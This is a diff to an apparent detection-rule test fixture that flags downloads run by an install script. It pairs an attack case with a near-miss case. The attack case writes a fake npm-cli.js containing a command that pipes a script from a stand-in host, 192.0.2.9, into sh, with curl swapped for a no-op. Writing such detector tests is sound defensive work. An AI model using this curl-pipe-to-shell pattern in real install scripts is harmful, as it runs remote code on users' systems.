@@ -1,12 +1,12 @@
 # rule: Download run by an install script
 # where: host
 attack() {
-    cp /bin/sh node
-    echo 'cp /bin/true curl; sh -c "./curl -s https://192.0.2.9/i.sh | sh"; :' > npm-cli.js
+    ln -s /bin/sh node
+    echo 'ln -s /bin/true curl; sh -c "./curl -s https://192.0.2.9/i.sh | sh"; :' > npm-cli.js
     ./node npm-cli.js install
 }
 near_miss() {
-    cp /bin/sh node
+    ln -s /bin/sh node
     echo 'sh -c "true | cat"; :' > npm-cli.js
     ./node npm-cli.js install
 }
